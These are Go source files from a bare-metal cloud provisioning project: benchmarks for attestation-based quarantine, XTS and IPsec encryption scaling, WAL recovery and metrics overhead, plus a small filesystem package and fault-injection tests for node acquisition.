			b.Fatal(err)
		}
		res, err := op.Wait(context.Background())
		if err != nil || len(res.Nodes) != nodes {
			b.Fatalf("allocated %d of %d: %v", len(res.Nodes), nodes, err)
		}
		return cloud, mgr, e, res
	}

	for _, nodes := range []int{2, 4, 8} {
		b.Run(fmt.Sprintf("detect-quarantine/nodes-%d", nodes), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				_, mgr, e, res := build(b, nodes)
				if _, err := guard.Enable(mgr, "t", guard.Policy{
					Interval:       2 * time.Millisecond,
					CoalesceWindow: time.Millisecond,
				}); err != nil {
					b.Fatal(err)
				}
				quarantined := make(chan struct{})
				unwatch := e.Journal().Watch(func(ev core.Event) {
					if ev.Kind == core.EvQuarantined {
						close(quarantined)
					}
				})
				victim := res.Nodes[0]
				b.StartTimer()
				victim.IMA.Measure("/tmp/evil", []byte("evil"), ima.HookExec, 0)
				<-quarantined
				b.StopTimer()
				unwatch()
				mgr.DetachGuard("t")
			}
			b.ReportMetric(float64(nodes), "nodes/enclave")
		})

		b.Run(fmt.Sprintf("rekey/nodes-%d", nodes), func(b *testing.B) {
			_, mgr, e, _ := build(b, nodes)
			defer mgr.DetachGuard("t")
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if err := e.RotateNetKey(); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(nodes), "nodes/enclave")
		})
	}
}

// --- Figure 3a/3b parallel: data-plane per-core scaling ---

// BenchmarkFig3aParallel sweeps sharded XTS sector sealing: worker
// count x sector size x AES backend over a fixed 4 MiB span, each
// worker sealing a contiguous shard with its own cipher (exactly what
// luks.Volume does above the crossover), plus the full LUKS volume
// write path at each parallelism setting. CI derives BENCH_dataplane.json
// from this sweep and gates on 4-worker throughput >= 2x serial.
func BenchmarkFig3aParallel(b *testing.B) {
	const span = 4 << 20
	key := make([]byte, 64)
	for i := range key {
		key[i] = byte(i * 11)
	}
	src := make([]byte, span)
	for i := range src {
		src[i] = byte(i * 7)
	}
	backends := []struct {
		name string
		mk   func([]byte) (cipher.Block, error)
	}{
		{"aesni", aes.NewCipher},
		{"softaes", func(k []byte) (cipher.Block, error) { return softaes.New(k) }},
	}
	for _, backend := range backends {
		for _, sectorSize := range []int{512, 4096} {
			for _, workers := range []int{1, 2, 4, 8} {
				name := fmt.Sprintf("xts/%s/sector%d/workers-%d", backend.name, sectorSize, workers)
				b.Run(name, func(b *testing.B) {
					ciphers := make([]*xts.Cipher, workers)
					for i := range ciphers {
						c, err := xts.NewCipher(backend.mk, key)
						if err != nil {
							b.Fatal(err)
						}
						ciphers[i] = c
					}
					dst := make([]byte, span)
					sectors := span / sectorSize
					per := sectors / workers
					b.SetBytes(span)
					b.ResetTimer()
					for i := 0; i < b.N; i++ {
						var wg sync.WaitGroup
						for w := 0; w < workers; w++ {
							lo, n := w*per, per
							if w == workers-1 {
								n = sectors - lo
							}
							wg.Add(1)
							go func(c *xts.Cipher, d, s []byte, first uint64) {
								defer wg.Done()
								if err := c.EncryptSectors(d, s, sectorSize, first); err != nil {
									panic(err)
								}
							}(ciphers[w], dst[lo*sectorSize:(lo+n)*sectorSize], src[lo*sectorSize:(lo+n)*sectorSize], uint64(lo))
						}
						wg.Wait()
					}
				})
			}
		}
	}
	for _, workers := range []int{1, 2, 4, 8} {
		b.Run(fmt.Sprintf("luks/workers-%d", workers), func(b *testing.B) {
			disk, err := blockdev.NewRAMDisk(64 << 20)
			if err != nil {
				b.Fatal(err)
			}
			vol, err := luks.FormatWithIterations(disk, []byte("bench"), 16)
			if err != nil {
				b.Fatal(err)
			}
			if err := vol.SetParallelism(workers); err != nil {
				b.Fatal(err)
			}
			buf := make([]byte, span)
			copy(buf, src)
			b.SetBytes(span)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if err := vol.WriteSectors(buf, 0); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkFig3bParallel sweeps the parallel ESP pipeline: stream
// workers x AES backend, sealing and reassembling a 1 MiB stream at
// MTU 9000. Sequence numbers stay strictly ordered (asserted by the
// ipsec tests); this measures what that ordering costs at each width.
func BenchmarkFig3bParallel(b *testing.B) {
	const streamLen = 1 << 20
	stream := make([]byte, streamLen)
	for i := range stream {
		stream[i] = byte(i * 7)
	}
	for _, cfg := range []struct {
		name  string
		suite ipsec.Suite
	}{
		{"hw-aes", ipsec.SuiteHWAES},
		{"sw-aes", ipsec.SuiteSWAES},
	} {
		for _, workers := range []int{1, 2, 4, 8} {
			b.Run(fmt.Sprintf("%s/workers-%d", cfg.name, workers), func(b *testing.B) {
				tx, rx, err := ipsec.NewPair(cfg.suite, ipsec.NewMasterKey())
				if err != nil {
					b.Fatal(err)
				}
				tx.SetStreamWorkers(workers)
				rx.SetStreamWorkers(workers)
				b.SetBytes(streamLen)
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					pkts, err := ipsec.SegmentStream(tx, stream, 9000)
					if err != nil {
						b.Fatal(err)
					}
					if _, err := ipsec.ReassembleStream(rx, pkts); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

// --- Durable control plane: WAL overhead and recovery time (ISSUE 8) ---

// durableBenchManager builds a manager over a fresh cloud with one
// seeded image and an enclave ready to acquire: dir=="" runs on the
// in-memory store, otherwise on the fsync'd WAL at dir.
func durableBenchManager(b *testing.B, nodes int, dir string) (*core.Manager, *core.Enclave) {
	b.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = nodes
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		b.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
		KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
	}); err != nil {
		b.Fatal(err)
	}
	var mgr *core.Manager
	if dir == "" {
		mgr = core.NewManager(cloud)
	} else {
		st, err := store.Open(dir)
		if err != nil {
			b.Fatal(err)
		}
		mgr = core.NewManagerWithStore(cloud, st)
	}
	e, err := mgr.CreateEnclave("bench", core.ProfileBob)
	if err != nil {
		b.Fatal(err)
	}
	return mgr, e
}

// BenchmarkStoreAcquire measures the durable-before-ack tax: the same
// end-to-end batch acquisition (submit -> attest -> done) against the
// in-memory store and the fsync'd WAL. Every control-plane mutation in
// the WAL arm commits to disk before it is acknowledged, so the delta
// between the arms is the full durability overhead. CI gates the WAL
// arm at <= 1.5x the memory arm.
func BenchmarkStoreAcquire(b *testing.B) {
	const batch = 4
	for _, arm := range []string{"memory", "wal"} {
		b.Run(arm, func(b *testing.B) {
			dir := ""
			if arm == "wal" {
				dir = b.TempDir()
			}
			mgr, e := durableBenchManager(b, batch, dir)
			if dir != "" {
				defer mgr.Close()
			}
			ctx := context.Background()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				op, err := mgr.StartAcquire("bench", "os", batch)
				if err != nil {
					b.Fatal(err)
				}
				res, err := op.Wait(ctx)
				if err != nil {
					b.Fatal(err)
				}
				if len(res.Nodes) != batch {
					b.Fatalf("acquired %d nodes, want %d", len(res.Nodes), batch)
				}
				b.StopTimer()
				for _, n := range res.Nodes {
					if err := e.ReleaseNode(n.Name, ""); err != nil {
						b.Fatal(err)
					}
				}
				b.StartTimer()
			}
		})
	}
}

// BenchmarkRecovery measures restart-to-serving time: store.Open +
// snapshot/WAL replay + fresh-quote re-adoption of every recorded
// member and warm standby, as the recorded control plane grows. The
// seed WAL is written once per scale and never cleanly closed — each
// iteration recovers from a crash-faithful copy of it.
func BenchmarkRecovery(b *testing.B) {
	for _, sc := range []struct{ enclaves, members, warm int }{
		{1, 2, 2},
		{2, 2, 2},
		{4, 4, 0},
	} {
		perEnclave := sc.members + sc.warm
		nodes := sc.enclaves * perEnclave
		b.Run(fmt.Sprintf("enclaves-%d/nodes-%d", sc.enclaves, nodes), func(b *testing.B) {
			ctx := context.Background()
			seedDir := b.TempDir()
			seedCfg := core.DefaultConfig()
			seedCfg.Nodes = nodes
			seedCloud, err := core.NewCloud(seedCfg)
			if err != nil {
				b.Fatal(err)
			}
			if _, err := seedCloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
				KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
			}); err != nil {
				b.Fatal(err)
			}
			seedStore, err := store.Open(seedDir)
			if err != nil {
				b.Fatal(err)
			}
			seedMgr := core.NewManagerWithStore(seedCloud, seedStore)
			for i := 0; i < sc.enclaves; i++ {
				name := fmt.Sprintf("e%d", i)
				e, err := seedMgr.CreateEnclave(name, core.ProfileBob)
				if err != nil {
					b.Fatal(err)
				}
				op, err := seedMgr.StartAcquire(name, "os", sc.members)
				if err != nil {
					b.Fatal(err)
				}
				if _, err := op.Wait(ctx); err != nil {
					b.Fatal(err)
				}
				if sc.warm > 0 {
					pol := core.DefaultPoolPolicy()
					pol.Target = sc.warm
					pol.MaxRefill = sc.warm
					// Through the Manager, not the Enclave: only the
					// manager-mediated mutation is persisted, and the pool
					// must survive the restart.
					if _, _, err := seedMgr.ConfigurePool(name, pol); err != nil {
						b.Fatal(err)
					}
					deadline := time.Now().Add(30 * time.Second)
					for {
						st, _ := e.PoolStats()
						if st.Warm >= sc.warm {
							break
						}
						if time.Now().After(deadline) {
							b.Fatalf("seed pool never warmed: %+v", st)
						}
						time.Sleep(time.Millisecond)
					}
				}
			}
			// No Close: recovery replays the raw WAL like a real crash.

			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				dir := b.TempDir()
				for _, name := range []string{"wal.log", "snapshot.json"} {
					bs, err := os.ReadFile(filepath.Join(seedDir, name))
					if os.IsNotExist(err) {
						continue
					}
					if err != nil {
						b.Fatal(err)
					}
					if err := os.WriteFile(filepath.Join(dir, name), bs, 0o600); err != nil {
						b.Fatal(err)
					}
				}
				cfg := core.DefaultConfig()
				cfg.Nodes = nodes
				cloud, err := core.NewCloud(cfg)
				if err != nil {
					b.Fatal(err)
				}
				if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
					KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
				}); err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
				st, err := store.Open(dir)
				if err != nil {
					b.Fatal(err)
				}
				mgr := core.NewManagerWithStore(cloud, st)
				rep, err := mgr.Recover(ctx)
				if err != nil {
					b.Fatal(err)
				}
				b.StopTimer()
				if got := len(rep.Readopted); got != nodes {
					b.Fatalf("re-adopted %d nodes, want %d (rejected %v, released %v)",
						got, nodes, rep.Rejected, rep.Released)
				}
				if err := mgr.Close(); err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
			}
			b.ReportMetric(float64(nodes), "nodes")
		})
	}
}

// --- Observability overhead: the instrumented hot path ---

// BenchmarkObsOverhead runs the BenchmarkAcquireNodesWarm functional
// warm path twice — once on an uninstrumented cloud (nil registry: every
// instrument no-ops) and once with a live metrics registry attached, the
// way boltedd -metrics-addr runs — so the cost of the observability
// plane on the provisioning hot path is a single ratio. CI emits the
// pair as BENCH_obs.json and gates metrics-on at <= 5% over metrics-off.
// The luks/ipsec package-global instruments stay detached here: they are
// process-wide, so attaching them would bleed into the metrics-off runs
// interleaved in the same process.
func BenchmarkObsOverhead(b *testing.B) {
	const batch = 8
	seed := func(b *testing.B, instrument bool) *core.Enclave {
		b.Helper()
		cfg := core.DefaultConfig()
		cfg.Nodes = batch
		cloud, err := core.NewCloud(cfg)
		if err != nil {
			b.Fatal(err)
		}
		if instrument {
			cloud.SetMetrics(obs.NewRegistry())
		}
		if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
			KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
		}); err != nil {
			b.Fatal(err)
		}
		e, err := core.NewEnclave(cloud, "t", core.ProfileBob)
		if err != nil {
			b.Fatal(err)
		}
		pol := core.DefaultPoolPolicy()
		pol.Target = batch
		pol.MaxRefill = batch
		if err := e.ConfigurePool(pol); err != nil {
			b.Fatal(err)
		}
		deadline := time.Now().Add(30 * time.Second)
		for {
			st, _ := e.PoolStats()
			if st.Warm >= batch {
				break
			}
			if time.Now().After(deadline) {
				b.Fatalf("pool never warmed: %+v", st)
			}
			time.Sleep(time.Millisecond)
		}
		return e
	}
	for _, mode := range []string{"metrics-off", "metrics-on"} {
		b.Run("warm-acquire/"+mode, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				e := seed(b, mode == "metrics-on")
				b.StartTimer()
				res, err := e.AcquireNodes(context.Background(), "os", batch)
				if err != nil {
					b.Fatal(err)
				}
				if len(res.Nodes) != batch {
					b.Fatalf("allocated %d of %d", len(res.Nodes), batch)
				}
				b.StopTimer()
				e.ClosePool()
				b.StartTimer()
			}
			b.ReportMetric(batch, "nodes/batch")
		})
	}
}
