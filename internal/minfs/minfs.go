// Package minfs is a small persistent filesystem over any
// blockdev.Device: superblock, block-allocation bitmap, fixed inode
// table with direct + single-indirect extents, and a flat namespace.
// It gives the Filebench-style workload (§7.5's VM experiment) a real
// data path that stacks over RAM disks, LUKS volumes, or the network
// block device — every file operation becomes real sector I/O through
// whatever encryption layers the tenant chose.
package minfs

import (
	"encoding/binary"
	"errors"
	"fmt"
	"sort"
	"sync"

	"bolted/internal/blockdev"
)

// Geometry.
const (
	// BlockSectors is the filesystem block size in sectors (4 KiB).
	BlockSectors = 8
	// BlockSize is the block size in bytes.
	BlockSize = BlockSectors * blockdev.SectorSize

	inodeSize     = 128
	nameLen       = 64
	directPtrs    = 8
	ptrsPerBlock  = BlockSize / 4
	maxFileBlocks = directPtrs + ptrsPerBlock
	// MaxFileSize is the largest file the inode geometry supports.
	MaxFileSize = maxFileBlocks * BlockSize

	magic = 0x424F4654 // "BOFT"
)

// Errors.
var (
	ErrNotFound   = errors.New("minfs: file not found")
	ErrExists     = errors.New("minfs: file exists")
	ErrNoSpace    = errors.New("minfs: out of space")
	ErrNoInodes   = errors.New("minfs: out of inodes")
	ErrNameTooBig = errors.New("minfs: name too long")
	ErrFileTooBig = errors.New("minfs: file exceeds maximum size")
	ErrNotFS      = errors.New("minfs: device has no filesystem")
)

// superblock is sector 0.
type superblock struct {
	Magic       uint32
	NumInodes   uint32
	BitmapStart uint32 // sector
	BitmapSecs  uint32
	InodeStart  uint32 // sector
	InodeSecs   uint32
	DataStart   uint32 // sector of block 0
	NumBlocks   uint32 // data blocks
}

// inode is one table entry.
type inode struct {
	used     bool
	name     string
	size     uint32
	direct   [directPtrs]uint32 // block numbers + 1 (0 = unset)
	indirect uint32             // block number + 1 of the pointer block
}

// FS is a mounted filesystem. Safe for concurrent use.
type FS struct {
	dev blockdev.Device
	sb  superblock

	mu     sync.Mutex
	bitmap []byte  // one bit per data block
	inodes []inode // cached table
}

// Format writes a fresh filesystem with the given inode count and
// returns it mounted.
func Format(dev blockdev.Device, numInodes int) (*FS, error) {
	if numInodes < 1 || numInodes > 1<<16 {
		return nil, fmt.Errorf("minfs: inode count %d out of range", numInodes)
	}
	total := dev.NumSectors()
	inodeSecs := (int64(numInodes)*inodeSize + blockdev.SectorSize - 1) / blockdev.SectorSize

	// Iterate: bitmap size depends on data blocks which depend on it.
	bitmapSecs := int64(1)
	for {
		dataStart := 1 + bitmapSecs + inodeSecs
		dataSectors := total - dataStart
		if dataSectors < BlockSectors {
			return nil, errors.New("minfs: device too small")
		}
		blocks := dataSectors / BlockSectors
		need := (blocks + 8*blockdev.SectorSize - 1) / (8 * blockdev.SectorSize)
		if need <= bitmapSecs {
			fs := &FS{
				dev: dev,
				sb: superblock{
					Magic:       magic,
					NumInodes:   uint32(numInodes),
					BitmapStart: 1,
					BitmapSecs:  uint32(bitmapSecs),
					InodeStart:  uint32(1 + bitmapSecs),
					InodeSecs:   uint32(inodeSecs),
					DataStart:   uint32(1 + bitmapSecs + inodeSecs),
					NumBlocks:   uint32(blocks),
				},
				bitmap: make([]byte, bitmapSecs*blockdev.SectorSize),
				inodes: make([]inode, numInodes),
			}
			if err := fs.writeSuper(); err != nil {
				return nil, err
			}
			if err := fs.writeBitmap(); err != nil {
				return nil, err
			}
			if err := fs.writeAllInodes(); err != nil {
				return nil, err
			}
			return fs, nil
		}
		bitmapSecs = need
	}
}

// Mount reads an existing filesystem from the device.
func Mount(dev blockdev.Device) (*FS, error) {
	raw := make([]byte, blockdev.SectorSize)
	if err := dev.ReadSectors(raw, 0); err != nil {
		return nil, err
	}
	var sb superblock
	sb.Magic = binary.LittleEndian.Uint32(raw[0:])
	if sb.Magic != magic {
		return nil, ErrNotFS
	}
	sb.NumInodes = binary.LittleEndian.Uint32(raw[4:])
	sb.BitmapStart = binary.LittleEndian.Uint32(raw[8:])
	sb.BitmapSecs = binary.LittleEndian.Uint32(raw[12:])
	sb.InodeStart = binary.LittleEndian.Uint32(raw[16:])
	sb.InodeSecs = binary.LittleEndian.Uint32(raw[20:])
	sb.DataStart = binary.LittleEndian.Uint32(raw[24:])
	sb.NumBlocks = binary.LittleEndian.Uint32(raw[28:])

	fs := &FS{dev: dev, sb: sb}
	fs.bitmap = make([]byte, int(sb.BitmapSecs)*blockdev.SectorSize)
	if err := dev.ReadSectors(fs.bitmap, int64(sb.BitmapStart)); err != nil {
		return nil, err
	}
	inRaw := make([]byte, int(sb.InodeSecs)*blockdev.SectorSize)
	if err := dev.ReadSectors(inRaw, int64(sb.InodeStart)); err != nil {
		return nil, err
	}
	fs.inodes = make([]inode, sb.NumInodes)
	for i := range fs.inodes {
		fs.inodes[i] = decodeInode(inRaw[i*inodeSize : (i+1)*inodeSize])
	}
	return fs, nil
}

func (fs *FS) writeSuper() error {
	raw := make([]byte, blockdev.SectorSize)
	binary.LittleEndian.PutUint32(raw[0:], fs.sb.Magic)
	binary.LittleEndian.PutUint32(raw[4:], fs.sb.NumInodes)
	binary.LittleEndian.PutUint32(raw[8:], fs.sb.BitmapStart)
	binary.LittleEndian.PutUint32(raw[12:], fs.sb.BitmapSecs)
	binary.LittleEndian.PutUint32(raw[16:], fs.sb.InodeStart)
	binary.LittleEndian.PutUint32(raw[20:], fs.sb.InodeSecs)
	binary.LittleEndian.PutUint32(raw[24:], fs.sb.DataStart)
	binary.LittleEndian.PutUint32(raw[28:], fs.sb.NumBlocks)
	return fs.dev.WriteSectors(raw, 0)
}

func (fs *FS) writeBitmap() error {
	return fs.dev.WriteSectors(fs.bitmap, int64(fs.sb.BitmapStart))
}

func encodeInode(in inode, dst []byte) {
	for i := range dst {
		dst[i] = 0
	}
	if !in.used {
		return
	}
	dst[0] = 1
	copy(dst[1:1+nameLen], in.name)
	binary.LittleEndian.PutUint32(dst[1+nameLen:], in.size)
	off := 1 + nameLen + 4
	for i, p := range in.direct {
		binary.LittleEndian.PutUint32(dst[off+4*i:], p)
	}
	binary.LittleEndian.PutUint32(dst[off+4*directPtrs:], in.indirect)
}

func decodeInode(src []byte) inode {
	var in inode
	if src[0] == 0 {
		return in
	}
	in.used = true
	end := 1
	for end < 1+nameLen && src[end] != 0 {
		end++
	}
	in.name = string(src[1:end])
	in.size = binary.LittleEndian.Uint32(src[1+nameLen:])
	off := 1 + nameLen + 4
	for i := range in.direct {
		in.direct[i] = binary.LittleEndian.Uint32(src[off+4*i:])
	}
	in.indirect = binary.LittleEndian.Uint32(src[off+4*directPtrs:])
	return in
}

// writeInode persists one table entry.
func (fs *FS) writeInode(idx int) error {
	sector := int64(fs.sb.InodeStart) + int64(idx*inodeSize)/blockdev.SectorSize
	raw := make([]byte, blockdev.SectorSize)
	if err := fs.dev.ReadSectors(raw, sector); err != nil {
		return err
	}
	within := (idx * inodeSize) % blockdev.SectorSize
	encodeInode(fs.inodes[idx], raw[within:within+inodeSize])
	return fs.dev.WriteSectors(raw, sector)
}

func (fs *FS) writeAllInodes() error {
	raw := make([]byte, int(fs.sb.InodeSecs)*blockdev.SectorSize)
	for i := range fs.inodes {
		encodeInode(fs.inodes[i], raw[i*inodeSize:(i+1)*inodeSize])
	}
	return fs.dev.WriteSectors(raw, int64(fs.sb.InodeStart))
}

// --- block allocation ---

func (fs *FS) allocBlock() (uint32, error) {
	for b := uint32(0); b < fs.sb.NumBlocks; b++ {
		if fs.bitmap[b/8]&(1<<(b%8)) == 0 {
			fs.bitmap[b/8] |= 1 << (b % 8)
			return b, nil
		}
	}
	return 0, ErrNoSpace
}

func (fs *FS) freeBlock(b uint32) {
	fs.bitmap[b/8] &^= 1 << (b % 8)
}

// FreeBlocks reports the number of unallocated data blocks.
func (fs *FS) FreeBlocks() int {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	n := 0
	for b := uint32(0); b < fs.sb.NumBlocks; b++ {
		if fs.bitmap[b/8]&(1<<(b%8)) == 0 {
			n++
		}
	}
	return n
}

func (fs *FS) blockSector(b uint32) int64 {
	return int64(fs.sb.DataStart) + int64(b)*BlockSectors
}

func (fs *FS) readBlock(b uint32, dst []byte) error {
	return fs.dev.ReadSectors(dst, fs.blockSector(b))
}

func (fs *FS) writeBlock(b uint32, src []byte) error {
	return fs.dev.WriteSectors(src, fs.blockSector(b))
}

// --- file extents ---

// fileBlocks returns the block list of an inode, in order.
func (fs *FS) fileBlocks(in *inode) ([]uint32, error) {
	blocks := int((int64(in.size) + BlockSize - 1) / BlockSize)
	out := make([]uint32, 0, blocks)
	for i := 0; i < blocks && i < directPtrs; i++ {
		out = append(out, in.direct[i]-1)
	}
	if blocks > directPtrs {
		if in.indirect == 0 {
			return nil, errors.New("minfs: corrupt inode: missing indirect block")
		}
		raw := make([]byte, BlockSize)
		if err := fs.readBlock(in.indirect-1, raw); err != nil {
			return nil, err
		}
		for i := directPtrs; i < blocks; i++ {
			out = append(out, binary.LittleEndian.Uint32(raw[4*(i-directPtrs):])-1)
		}
	}
	return out, nil
}

func (fs *FS) lookupLocked(name string) int {
	for i := range fs.inodes {
		if fs.inodes[i].used && fs.inodes[i].name == name {
			return i
		}
	}
	return -1
}

// --- public API ---

// Write stores a whole file, replacing any existing content.
func (fs *FS) Write(name string, data []byte) error {
	if len(name) == 0 || len(name) > nameLen-1 {
		return ErrNameTooBig
	}
	if len(data) > MaxFileSize {
		return ErrFileTooBig
	}
	fs.mu.Lock()
	defer fs.mu.Unlock()

	idx := fs.lookupLocked(name)
	if idx < 0 {
		for i := range fs.inodes {
			if !fs.inodes[i].used {
				idx = i
				break
			}
		}
		if idx < 0 {
			return ErrNoInodes
		}
		fs.inodes[idx] = inode{used: true, name: name}
	} else if err := fs.truncateLocked(idx); err != nil {
		return err
	}

	in := &fs.inodes[idx]
	in.size = uint32(len(data))
	blocks := (len(data) + BlockSize - 1) / BlockSize
	var indirectRaw []byte
	allocated := make([]uint32, 0, blocks)
	fail := func(err error) error {
		for _, b := range allocated {
			fs.freeBlock(b)
		}
		fs.inodes[idx] = inode{}
		return err
	}
	for i := 0; i < blocks; i++ {
		b, err := fs.allocBlock()
		if err != nil {
			return fail(err)
		}
		allocated = append(allocated, b)
		chunk := make([]byte, BlockSize)
		copy(chunk, data[i*BlockSize:])
		if err := fs.writeBlock(b, chunk); err != nil {
			return fail(err)
		}
		if i < directPtrs {
			in.direct[i] = b + 1
		} else {
			if indirectRaw == nil {
				ib, err := fs.allocBlock()
				if err != nil {
					return fail(err)
				}
				allocated = append(allocated, ib)
				in.indirect = ib + 1
				indirectRaw = make([]byte, BlockSize)
			}
			binary.LittleEndian.PutUint32(indirectRaw[4*(i-directPtrs):], b+1)
		}
	}
	if indirectRaw != nil {
		if err := fs.writeBlock(in.indirect-1, indirectRaw); err != nil {
			return fail(err)
		}
	}
	if err := fs.writeInode(idx); err != nil {
		return fail(err)
	}
	return fs.writeBitmap()
}

// truncateLocked frees a file's blocks, keeping the inode.
func (fs *FS) truncateLocked(idx int) error {
	in := &fs.inodes[idx]
	blocks, err := fs.fileBlocks(in)
	if err != nil {
		return err
	}
	for _, b := range blocks {
		fs.freeBlock(b)
	}
	if in.indirect != 0 {
		fs.freeBlock(in.indirect - 1)
	}
	name := in.name
	fs.inodes[idx] = inode{used: true, name: name}
	return nil
}

// Read returns a file's full content.
func (fs *FS) Read(name string) ([]byte, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	idx := fs.lookupLocked(name)
	if idx < 0 {
		return nil, fmt.Errorf("%w: %q", ErrNotFound, name)
	}
	in := &fs.inodes[idx]
	blocks, err := fs.fileBlocks(in)
	if err != nil {
		return nil, err
	}
	out := make([]byte, 0, in.size)
	buf := make([]byte, BlockSize)
	for _, b := range blocks {
		if err := fs.readBlock(b, buf); err != nil {
			return nil, err
		}
		out = append(out, buf...)
	}
	return out[:in.size], nil
}

// Delete removes a file and frees its blocks.
func (fs *FS) Delete(name string) error {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	idx := fs.lookupLocked(name)
	if idx < 0 {
		return fmt.Errorf("%w: %q", ErrNotFound, name)
	}
	if err := fs.truncateLocked(idx); err != nil {
		return err
	}
	fs.inodes[idx] = inode{}
	if err := fs.writeInode(idx); err != nil {
		return err
	}
	return fs.writeBitmap()
}

// Stat returns a file's size.
func (fs *FS) Stat(name string) (int64, error) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	idx := fs.lookupLocked(name)
	if idx < 0 {
		return 0, fmt.Errorf("%w: %q", ErrNotFound, name)
	}
	return int64(fs.inodes[idx].size), nil
}

// List returns all file names, sorted.
func (fs *FS) List() []string {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	var out []string
	for i := range fs.inodes {
		if fs.inodes[i].used {
			out = append(out, fs.inodes[i].name)
		}
	}
	sort.Strings(out)
	return out
}
