package fault

import (
	"context"
	"errors"
	"testing"
	"time"

	"bolted/internal/bmi"
	"bolted/internal/core"
)

// These tests drive the real provisioning pipeline with the injector
// between the resilience layer and the in-process services — the same
// stack the boltedsim fault sweep runs, as a tier-1 test: the issue's
// acceptance gate is that at a 5% per-call transient-fault rate an
// 8-node batch still acquires 8/8 with zero spurious rejects.

// faultedCloud builds an n-node cloud with every backend wrapped by a
// fresh injector (seeded, all backends on the given profile) and
// resilience enabled under pol.
func faultedCloud(t *testing.T, n int, seed int64, p Profile, pol core.ResiliencePolicy) (*core.Cloud, *Injector) {
	t.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = n
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("os", bmi.OSImageSpec{
		KernelID: "k", Kernel: []byte("kernel"), Initrd: []byte("initrd"),
	}); err != nil {
		t.Fatal(err)
	}
	inj := New(seed)
	t.Cleanup(inj.Close)
	for _, b := range Backends {
		inj.Set(b, p)
	}
	cloud.HIL = WrapHIL(cloud.HIL, inj)
	cloud.BMI = WrapBMI(cloud.BMI, inj)
	cloud.Driver = WrapDriver(cloud.Driver, inj)
	cloud.Registrar = WrapRegistrar(cloud.Registrar, inj)
	if err := cloud.EnableResilience(pol); err != nil {
		t.Fatal(err)
	}
	return cloud, inj
}

// retryHeavy is deep enough to out-last any streak the tested rates
// produce, with a breaker that tolerates the whole batch.
func retryHeavy() core.ResiliencePolicy {
	return core.ResiliencePolicy{
		MaxAttempts:      8,
		RetryBackoff:     100 * time.Microsecond,
		BackoffCap:       time.Millisecond,
		BreakerThreshold: 64,
		BreakerCooldown:  10 * time.Millisecond,
	}
}

// TestBatchAcquireUnderTransientFaults is the acceptance gate: a full
// 8-node batch lands with zero spurious rejects at the 5% rate, and
// stays clean at 10% and 20% — one flaky service call must never send
// a healthy node to the rejected pool.
func TestBatchAcquireUnderTransientFaults(t *testing.T) {
	for _, rate := range []float64{0.05, 0.10, 0.20} {
		cloud, inj := faultedCloud(t, 8, 1337, Profile{ErrorRate: rate}, retryHeavy())
		e, err := core.NewEnclave(cloud, "tenant", core.ProfileBob)
		if err != nil {
			t.Fatal(err)
		}
		res, err := e.AcquireNodes(context.Background(), "os", 8)
		if err != nil {
			t.Fatalf("rate %.2f: %v", rate, err)
		}
		if len(res.Nodes) != 8 || len(res.Failed) != 0 || len(res.Aborted) != 0 {
			t.Fatalf("rate %.2f: acquired=%d failed=%v aborted=%v",
				rate, len(res.Nodes), res.Failed, res.Aborted)
		}
		if cloud.Degraded() {
			t.Fatalf("rate %.2f: batch tripped the cloud into degraded mode", rate)
		}
		var injected uint64
		for _, b := range Backends {
			for _, n := range inj.StatsFor(b).Injected {
				injected += n
			}
		}
		if rate > 0 && injected == 0 {
			t.Fatalf("rate %.2f: injector never fired — the test proved nothing", rate)
		}
	}
}

// TestTornResponsesDoNotSpuriouslyReject: torn responses (side effect
// applied, response lost) are the nastiest transient shape — the retry
// repeats an op whose first attempt may have landed. The pipeline's ops
// tolerate the replay and the batch still comes up whole.
func TestTornResponsesDoNotSpuriouslyReject(t *testing.T) {
	cloud, _ := faultedCloud(t, 4, 99, Profile{TornRate: 0.05}, retryHeavy())
	e, err := core.NewEnclave(cloud, "tenant", core.ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	res, err := e.AcquireNodes(context.Background(), "os", 4)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != 4 || len(res.Failed) != 0 {
		t.Fatalf("acquired=%d failed=%v", len(res.Nodes), res.Failed)
	}
}

// TestInjectedOutageTripsBreakerThenRecovers runs the degraded-mode arc
// through the full wrapper stack (resilient{faulty{real}}): a total HIL
// outage trips the breaker, the manager fails new acquires fast with
// the typed error, and healing the injector lets the half-open probe
// close the breaker.
func TestInjectedOutageTripsBreakerThenRecovers(t *testing.T) {
	pol := core.ResiliencePolicy{
		MaxAttempts:      1,
		RetryBackoff:     time.Millisecond,
		BreakerThreshold: 3,
		BreakerCooldown:  50 * time.Millisecond,
	}
	cloud, inj := faultedCloud(t, 2, 7, Profile{}, pol)
	mgr := core.NewManager(cloud)
